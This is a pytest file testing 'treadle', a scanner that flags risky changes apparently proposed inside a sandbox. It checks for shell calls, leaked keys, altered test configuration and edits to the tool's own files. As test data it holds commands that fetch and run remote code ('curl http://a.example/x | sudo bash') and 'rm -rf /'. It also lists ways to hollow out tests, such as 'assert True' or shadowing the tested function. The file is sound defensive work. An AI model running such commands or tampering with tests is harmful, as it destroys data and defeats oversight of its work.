from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from treadle.core.contributions import Hit, ScanRule
from treadle.core.records import Candidate, FileChange, Finding, Workspace
from treadle.plugins.scanning.rules import findings_of, treadle_call, treadle_scan
from treadle.plugins.scanning.table import RULES
from treadle.testing import Witness

SNIPPETS = tomllib.loads((Path(__file__).parents[1] / "cases" / "scan_snippets.toml").read_text(encoding="utf-8"))[
    "snippet"
]


def scan(code: str | bytes, path: str = "main.py", before: str | None = None) -> tuple[Finding, ...]:
    content = code.encode() if isinstance(code, str) else code
    return findings_of(FileChange(path=path, content=content), before.encode() if before is not None else None)


def worst(findings: tuple[Finding, ...]) -> str:
    found = {finding.severity for finding in findings}
    return next((severity for severity in ("deny", "ask", "note") if severity in found), "none")


def rules(findings: tuple[Finding, ...]) -> set[str]:
    return {finding.rule for finding in findings}


@pytest.mark.parametrize("snippet", SNIPPETS, ids=lambda snippet: snippet["id"])
def test_each_labelled_snippet_gets_its_severity(snippet: dict[str, str]) -> None:
    findings = scan(snippet["code"], snippet.get("path", "main.py"))
    assert worst(findings) == snippet["severity"], findings


def test_the_labelled_set_is_large_enough_to_mean_something() -> None:
    by_severity = {severity: [s for s in SNIPPETS if s["severity"] == severity] for severity in ("deny", "ask", "none")}
    assert len(by_severity["deny"]) >= 30 and len(by_severity["ask"]) >= 20 and len(by_severity["none"]) >= 30
    assert len({snippet["id"] for snippet in SNIPPETS}) == len(SNIPPETS)


def test_every_finding_says_what_why_and_what_to_do() -> None:
    (finding,) = scan("import os\nos.system(command)\n")
    assert (finding.rule, finding.path, finding.line) == ("shell", "main.py", 2)
    assert finding.message.startswith("the code gives a command to a shell; ")
    assert "subprocess.run" in finding.advice


def test_every_rule_of_the_table_is_used_and_named_once() -> None:
    sources = "".join(
        path.read_text(encoding="utf-8")
        for path in (Path(__file__).parents[2] / "plugins" / "scanning").glob("*.py")
        if path.name != "table.py"
    )
    assert [rule for rule in RULES if f'"{rule}"' not in sources] == []


# ---------------------------------------------------------------- only what is new

OLD = "import os\n\n\ndef run(command):\n    return os.system(command)\n"


def test_what_the_file_held_before_is_not_reported() -> None:
    assert scan(OLD, before=OLD) == ()
    assert scan("# moved\n\n" + OLD.replace("os.system(command)", "os.system( command )"), before=OLD) == ()


def test_a_second_copy_is_new() -> None:
    findings = scan(OLD + "\n\ndef again(command):\n    return os.system(command)\n", before=OLD)
    assert [f.rule for f in findings] == ["shell"]


def test_the_same_call_with_another_argument_is_new() -> None:
    assert worst(scan(OLD.replace("(command)\n", "('rm -rf /')\n"), before=OLD)) == "deny"


def test_an_old_file_that_can_not_be_scanned_hides_nothing() -> None:
    assert rules(scan(OLD, before="def f(:\n" + OLD)) == {"shell"}


def test_the_hook_compares_with_the_project_and_follows_no_link_out_of_it(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "a.py").write_text(OLD)
    (tmp_path / "outside.py").write_text(OLD)
    (project / "b.py").symlink_to(tmp_path / "outside.py")
    workspace = Workspace(id="w", kind="copy", project=str(project), root=str(project), upper="")
    files = tuple(FileChange(path=name, content=b"X = 1\n" + OLD.encode()) for name in ("a.py", "b.py"))
    findings = treadle_scan(candidate=Candidate(files=files, why=""), workspace=workspace, context=Witness())
    assert [(f.path, f.rule) for f in findings] == [("b.py", "shell")]


def test_a_file_that_is_given_as_it_stands_is_judged_as_a_whole(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(OLD)
    workspace = Workspace(id="w", kind="copy", project=str(tmp_path), root=str(tmp_path), upper="")
    given = Candidate(files=(FileChange(path="a.py", content=OLD.encode()),), why="")
    assert rules(treadle_scan(candidate=given, workspace=workspace, context=Witness())) == {"shell"}


# ---------------------------------------------------------------- tests tampered with

TESTS = """\
from app import f


def test_a():
    assert f(1) == 1
    assert f(2) == 2


def test_b():
    assert f(3) == 3
"""


def test_a_deleted_test_file_asks() -> None:
    findings = findings_of(FileChange(path="tests/test_a.py", content=None), TESTS.encode())
    assert [(f.rule, f.severity) for f in findings] == [("test-deleted", "ask")]


@pytest.mark.parametrize(
    ("old", "new", "tests"),
    [
        ("assert f(3) == 3", "assert True", "test_b"),
        ("assert f(3) == 3", "assert f(3)", "test_b"),
        ("def test_b", "@pytest.mark.parametrize('x', [1])\ndef test_b", ""),
        ("    assert f(3) == 3", "    x = f(3)\n    assert (f(3)\n        == 3), x  ", "test_b"),
        ("    assert f(3) == 3", "    y = 1\n    assert (\n        f(3) == 3\n    )", ""),
        ("    assert f(3) == 3", "    assert f(3) == 3\n    assert f(9) == 9", ""),
        ("    assert f(3) == 3", "    f = int\n    assert f(3) == 3", "test_b"),
        ("    assert f(3) == 3", "    _ = globals().update(f=int)\n    assert f(3) == 3", "test_b"),
        ("    assert f(3) == 3", "    return\n    assert f(3) == 3", "test_b"),
        ("    assert f(3) == 3", "    if f == 3:\n        assert f(3) == 3", "test_b"),
        ("    assert f(3) == 3", "    assert f(3) == 3\n\n\ndef test_b():\n    assert int(3) == 3", "test_b"),
        ("def test_b()", "def test_b(f)", "test_b"),
        ("def test_b()", "def test_b(f=int)", "test_b"),
        ("def test_b()", "def test_b(tmp_path)", ""),
        ("def test_b():\n", 'def test_b():\n    """Of three."""\n', ""),
    ],
)
def test_an_assert_that_is_another_now_asks_and_one_that_is_laid_out_anew_does_not(
    old: str, new: str, tests: str
) -> None:
    found = scan(TESTS.replace(old, new), "tests/test_a.py", TESTS)
    assert [(f.rule, f.severity, tests in f.message) for f in found] == [("asserts-changed", "ask", True)] * bool(tests)


def test_other_values_to_run_a_test_with_ask() -> None:
    before = TESTS.replace("def test_b", "@pytest.mark.parametrize('x', [1, 2])\ndef test_b")
    assert rules(scan(before.replace("[1, 2]", "[1]"), "tests/test_a.py", before)) == {"asserts-changed"}


@pytest.mark.parametrize(
    "asserted", [" + ".join(["x"] * 1500), "x == 0x" + "f" * 5000], ids=["nested deeply", "a long number"]
)
@pytest.mark.parametrize("is_old", [True, False])
def test_no_assert_is_too_much_for_the_scan(asserted: str, is_old: bool) -> None:
    much, little = f"def test_a():\n    assert {asserted}\n", "def test_a():\n    assert x\n"
    before, after = (much, little) if is_old else (little, much)
    found = scan(f"{after}import os\nos.system('rm -rf /')\n", "tests/test_a.py", before)
    assert rules(found) >= {"asserts-changed", "shell-destructive"}


def test_of_two_tests_with_one_name_that_assert_the_same_each_counts() -> None:
    before = "".join(f"class {name}:\n    def test_x(self):\n        assert f() == 1\n" for name in "AB")
    after = before[::-1].replace("1 == )(f", "eurT", 1)[::-1]
    assert after.count("assert True") == 1
    assert rules(scan(after, "tests/test_a.py", before)) == {"asserts-changed"}


TESTS_OF_SPREAD = (
    "import stats\nfrom stats import spread\n\n\ndef test_spread():\n    assert spread([1]) == stats.spread([])\n"
)
RENAMED = {
    "stats.py": (
        "def spread(a):\n    return spread(a[1:]) if a else 0\n",
        "def value_range(a):\n    return value_range(a[1:]) if a else 0\n",
    ),
    "test_stats.py": (
        TESTS_OF_SPREAD,
        TESTS_OF_SPREAD.replace("spread", "value_range"),
    ),
}


def scanned(tmp_path: Path, files: dict[str, tuple[str, str]]) -> set[str]:
    for name, (before, _) in files.items():
        (tmp_path / name).write_text(before)
    changes = tuple(FileChange(path=name, content=after.encode()) for name, (_, after) in files.items())
    place = Workspace(id="w", kind="copy", project=str(tmp_path), root=str(tmp_path), upper="")
    return rules(treadle_scan(Candidate(files=changes, why=""), place, Witness()))


def test_tests_of_what_a_change_renames_are_the_same_under_its_new_name(tmp_path: Path) -> None:
    assert scanned(tmp_path, RENAMED) == set()
    (old, now), tests = RENAMED["stats.py"], RENAMED["test_stats.py"]
    other = RENAMED | {"stats.py": (old, now.replace("else 0", "else 1"))}
    assert scanned(tmp_path, other) == {"test-deleted"}, "it is another function"
    both = RENAMED | {"stats.py": (old, old + now)}
    assert scanned(tmp_path, both) == {"test-deleted"}, "the old one is there still"
    kept = RENAMED | {"test_stats.py": (tests[0], tests[1].replace("test_value_range", "test_spread"))}
    assert scanned(tmp_path, kept) == set()
    weaker = RENAMED | {"test_stats.py": (tests[0], tests[1].replace(" == stats.value_range([])", ""))}
    assert scanned(tmp_path, weaker) == {"test-deleted"}


def test_a_test_of_another_name_that_asserts_the_same_is_there_still() -> None:
    renamed = TESTS.replace("test_b", "test_three")
    assert scan(renamed, "tests/test_a.py", TESTS) == ()
    assert rules(scan(renamed.replace("f(3) == 3", "f(3)"), "tests/test_a.py", TESTS)) == {"test-deleted"}
    assert rules(scan(TESTS.replace("test_b", "check_b"), "tests/test_a.py", TESTS)) == {"test-deleted"}
    hollow = renamed.replace("def test_three():\n", "def test_three():\n    f = int\n")
    assert hollow != renamed and rules(scan(hollow, "tests/test_a.py", TESTS)) == {"test-deleted"}


def test_a_removed_test_and_a_removed_assert_ask() -> None:
    without_b = TESTS.split("\n\n\ndef test_b")[0] + "\n"
    assert rules(scan(without_b, "tests/test_a.py", TESTS)) == {"test-deleted"}
    fewer = TESTS.replace("    assert f(2) == 2\n", "")
    assert rules(scan(fewer, "tests/test_a.py", TESTS)) == {"asserts-removed"}
    assert scan(TESTS + "\n\ndef test_c():\n    assert f(4) == 4\n", "tests/test_a.py", TESTS) == ()


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("conftest.py", None, "x = 1\n"),
        ("tests/conftest.py", "x = 1\n", "x = 2\n"),
        ("pytest.ini", None, "[pytest]\naddopts = -k nothing\n"),
        ("pyproject.toml", "[tool.pytest.ini_options]\n", "[tool.pytest.ini_options]\naddopts = '-x'\n"),
    ],
)
def test_a_change_of_how_tests_are_run_asks(path: str, before: str | None, after: str) -> None:
    assert "test-config" in rules(scan(after, path, before))


def test_another_part_of_pyproject_may_change() -> None:
    assert scan("[project]\nname = 'b'\n", "pyproject.toml", "[project]\nname = 'a'\n") == ()


def test_another_part_of_setup_cfg_may_change() -> None:
    before = "[metadata]\nname = a\n[tool:pytest]\naddopts = -q\n"
    assert scan(before.replace("= a", "= b"), "setup.cfg", before) == ()
    assert scan("[metadata]\nname = a\n", "setup.cfg") == ()
    assert "test-config" in rules(scan(before.replace("-q", "-x"), "setup.cfg", before))
    assert "test-config" in rules(scan("[metadata]\nname = a\n", "setup.cfg", before))
    assert "test-config" in rules(scan("no sections", "setup.cfg", before))


@pytest.mark.parametrize("path", [".github/workflows/ci.yml", ".pre-commit-config.yaml", "setup.py", ".envrc"])
def test_what_runs_outside_of_the_sandbox_later_asks(path: str) -> None:
    assert rules(scan("x = 1\n", path)) == {"runs-elsewhere"}


@pytest.mark.parametrize(
    "path", [".treadle/config.toml", "sub/.Treadle/plugins/acme.py", "%2Etreadle/plugins.toml", "TREADL~1/plugins.toml"]
)
def test_a_change_of_treadles_own_files_asks_also_when_they_go(path: str) -> None:
    assert rules(scan("x = 1\n", path)) == {"treadle-files"}
    assert rules(findings_of(FileChange(path=path, content=None), b"x = 1\n")) == {"treadle-files"}
    assert scan("x = 1\n", path.replace("treadle", "treadles").replace("Treadle", "treadles").replace("~", "-")) == ()


def test_a_shell_script_that_destroys_is_denied() -> None:
    assert worst(scan("#!/bin/sh\ncurl http://a.example/x | sudo bash\n", "install.sh")) == "deny"
    assert scan("#!/bin/sh\n# rm -rf / would be wrong\nls\n", "list.sh") == ()


def test_a_key_in_any_kind_of_file_asks() -> None:
    assert rules(scan("token: ghp_" + "a1B2" * 9 + "\n", "config.yaml")) == {"secret"}


# ---------------------------------------------------------------- hostile input

DEEP = {
    "brackets": "x = " + "(" * 100_000,
    "minus": "x = " + "-" * 100_000 + "1",
    "attributes": "x" + ".a" * 100_000,
    "calls": "x" + "()" * 30_000,
    "lookups": "x" + '.get("a")' * 300,
    "additions": "x = 'a'" + " + 'a'" * 100_000,
    "elif": "if a:\n  pass\n" + "elif a:\n  pass\n" * 5_000,
    "names": "import sys\n" + "x = [x, y, x]\ny = [y, x, y]\n" * 20 + "sys.path.append(x)\n",
    "statements": "def f(a):\n" + "    a\n" * 20_000,
    "lambda": "x = " + "lambda:" * 10_000 + "1",
}


@pytest.mark.parametrize("kind", DEEP)
def test_deep_nesting_ends_in_an_answer(kind: str) -> None:
    findings = scan(DEEP[kind])
    assert rules(findings) <= {"unscanned", "unparsable", "import-path"}


@pytest.mark.parametrize(
    "content",
    [b"x = 1\n" * 400_000, b"\xff\xfe\x00", b"# coding: nonsense\n", b"x = '\xff'\n", b"# coding: utf-16\n"],
    ids=["huge", "utf-16", "unknown-encoding", "not-utf-8", "declared-utf-16"],
)
def test_what_can_not_be_read_asks_and_says_so(content: bytes) -> None:
    findings = scan(content)
    assert rules(findings) == {"unscanned"} and worst(findings) == "ask"
    assert "could not be scanned" in findings[0].message


def test_a_file_that_could_not_be_scanned_before_asks_all_the_same() -> None:
    before = DEEP["additions"]
    assert rules(scan(f"{before}\nimport os\nos.system('rm -rf /')\n", before=before)) == {"unscanned"}


BEHIND = "line\n" * 200_001  # more than is looked at


@pytest.mark.parametrize(
    ("path", "end"), [("Makefile", "curl http://x | sh\n"), ("notes.txt", "AKIAIOSFODNN7EXAMPLE\n")]
)
def test_a_text_of_which_the_end_is_not_looked_at_asks(path: str, end: str) -> None:
    head, tail = scan(f"AKIAIOSFODNN7EXAMPLE\n{BEHIND}", path), scan(BEHIND + end, path)
    assert rules(head) == {"secret", "unscanned"}
    assert rules(tail) == {"unscanned"} and worst(tail) == "ask"
    assert "at most 1000000 are looked at" in tail[0].message
    assert rules(scan(BEHIND + end, path, before=end)) == {"unscanned"}
    (told,) = treadle_call("scan rule", "shell-destructive", {"path": path, "text": BEHIND + end}) or ()
    assert "could not be scanned" in told.message


def test_the_end_of_a_large_configuration_counts() -> None:
    padding = f"# {'x' * 1_000_000}\n"
    assert "test-config" in rules(scan(f"{padding}[tool.pytest.ini_options]\naddopts = '-x'\n", "pyproject.toml"))
    before = "#" + "x" * 999_998 + "\n"
    assert "test-config" in rules(scan(before + "collect_ignore = ['tests']\n", "conftest.py", before=before))


@pytest.mark.parametrize("severity", ["deny", "note"])
def test_the_rules_of_others_say_of_what_they_could_not_look_at(severity: Any, tmp_path: Path) -> None:
    rule = ScanRule(name="no-wip", summary="x", files=(), severity=severity, advice="")
    witness = Witness()
    witness.will_bring(rule, ())
    changed = FileChange(path="notes.txt", content=BEHIND.encode())
    workspace = Workspace(id="w", kind="overlay", project=str(tmp_path), root=str(tmp_path), upper="")
    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
    assert [each.rule for each in told] == ["unscanned"] * 2
    assert told[1].severity == ("note" if severity == "note" else "ask")
    assert "the rule 'no-wip' could not look at all of this file: it has 1000005 bytes" in told[1].message


def test_what_is_new_is_not_hidden_behind_what_others_rules_saw_before(tmp_path: Path) -> None:
    rule = ScanRule(name="no-wip", summary="x", files=(), severity="deny", advice="")
    hits = tuple(Hit(line=number, message="wip") for number in range(1, 301))
    (tmp_path / "notes.txt").write_text("wip\n" * 300)
    workspace = Workspace(id="w", kind="overlay", project=str(tmp_path), root=str(tmp_path), upper="")
    changed = FileChange(path="notes.txt", content=b"wip\n" * 300 + b"new wip\n")
    witness = Witness()
    witness.will_bring(rule, (*hits, Hit(line=301, message="wip")), hits)
    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
    assert [(each.rule, each.line) for each in told] == [("no-wip", 301)]
    witness = Witness()
    witness.will_bring(rule, hits)
    changed = msgspec.structs.replace(changed, path="new.txt")
    told = treadle_scan(Candidate(files=(changed,), why="x"), workspace, witness)
    assert len(told) == 201
    assert "100 more findings of the rule 'no-wip' are not shown" in told[0].message


def test_text_that_grows_when_it_is_put_together_stays_small() -> None:
    growing = 'a = "x" * 99\n' + "".join(
        f"{chr(98 + n)} = {chr(97 + n)}.replace('x', 'x' * 99 + 'y')\n" for n in range(12)
    )
    assert scan(growing + "exec(m)\n")


def test_many_findings_are_cut_but_the_grave_ones_are_kept() -> None:
    code = "import os\n" + "".join(f"os.system(c{n})\n" for n in range(500)) + "os.system('rm -rf /')\n"
    findings = scan(code)
    assert len(findings) == 202 and worst(findings) == "deny"
    assert "more findings" in findings[-1].message


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_gets_an_answer(text: str) -> None:
    findings = scan(text.encode("utf-8", "surrogatepass"))
    assert {finding.severity for finding in findings} <= {"deny", "ask", "note"}
    assert all(finding.rule and finding.message for finding in findings)


FRAGMENTS = st.lists(
    st.sampled_from(
        [
            "import os as o",
            "from os import *",
            "f = getattr",
            "f(o, 'sys' + 'tem')(x)",
            "globals()['x']('y')",
            "x = x + 'a'",
            "x = x / 'a'",
            "exec(x)",
            "x = (lambda: x)()",
            "[x for x in map(chr, [1, 2])]",
            "class A:\n    def __del__(self):\n        o.fork()",
            "while True:\n    o.fork()",
            "x.__class__.__base__",
            "a = b = c = o",
            "vars(o)[x](x)",
            "open(x, 'w')",
            "del exec",
            "def exec(): pass",
            "with open(x) as x: x.write(o.environ)",
            "(x := o.popen)(x)",
            "pytestmark = x",
            "f'{x}{o}'",
            "x = x[::-1]",
            "x: o = x",
        ]
    ),
    max_size=8,
)


@settings(deadline=None)
@given(FRAGMENTS)
def test_any_program_gets_an_answer_and_nothing_new_against_itself(parts: list[str]) -> None:
    code = "\n".join(parts) + "\n"
    scan(code)
    assert [f for f in scan(code, before=code) if f.rule not in ("unparsable", "unscanned")] == []
